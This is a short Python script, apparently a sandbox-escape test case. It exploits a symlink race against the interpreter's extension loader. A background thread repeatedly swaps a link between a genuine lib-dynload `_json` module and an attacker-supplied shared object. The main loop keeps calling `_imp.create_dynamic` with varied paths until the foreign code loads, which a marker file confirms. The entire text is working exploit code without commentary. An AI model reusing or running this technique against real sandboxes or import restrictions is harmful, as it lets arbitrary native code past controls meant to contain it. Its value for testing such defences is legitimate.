# an extension module of the interpreter's own by a link that a thread changes before it is opened
import _imp, os, sys, threading, time
from importlib.machinery import ExtensionFileLoader, ModuleSpec
m = sys.argv[1]; end = time.time() + float(os.environ.get("ESCAPE_SECONDS", "2")); os.environ["EVIL_MARKER"] = m
own = os.path.join(os.path.dirname(os.__file__), "lib-dynload")
harmless = os.path.join(own, next(name for name in sorted(os.listdir(own)) if name.startswith("_json")))
here = os.path.abspath("mine"); os.symlink(harmless, here)
def flip():
    while time.time() < end and not os.path.exists(m):
        for target in os.environ["EVIL_SO"], harmless: os.symlink(target, "next"); os.rename("next", here)
thread = threading.Thread(target=flip); thread.start(); number = 0
while time.time() < end and not os.path.exists(m):
    number += 1  # the loader takes no file a second time by one name
    try: _imp.create_dynamic(ModuleSpec("_json", ExtensionFileLoader("_json", here), origin=os.path.dirname(here) + "/" + "./" * number + "mine"))
    except (ImportError, OSError, SystemError) as e: last = e
thread.join(); sys.exit(not os.path.exists(m))
